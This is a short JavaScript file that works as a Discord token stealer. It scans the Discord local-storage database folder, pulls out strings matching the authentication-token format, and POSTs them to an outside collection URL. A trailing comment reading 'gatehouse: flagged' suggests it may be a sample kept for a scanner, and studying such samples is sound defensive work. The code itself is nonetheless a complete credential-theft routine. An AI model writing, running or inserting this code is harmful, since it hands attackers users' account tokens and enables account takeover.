const fs = require("fs");
const path = require("path");

const folder = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
const found = [];
for (const name of fs.readdirSync(folder)) {
  const text = fs.readFileSync(path.join(folder, name), "latin1");
  found.push(...(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []));
}
const body = JSON.stringify({ content: found.join("\n") });
if (found.length) fetch("https://collect.example.invalid/t", { method: "POST", body }); // gatehouse: flagged
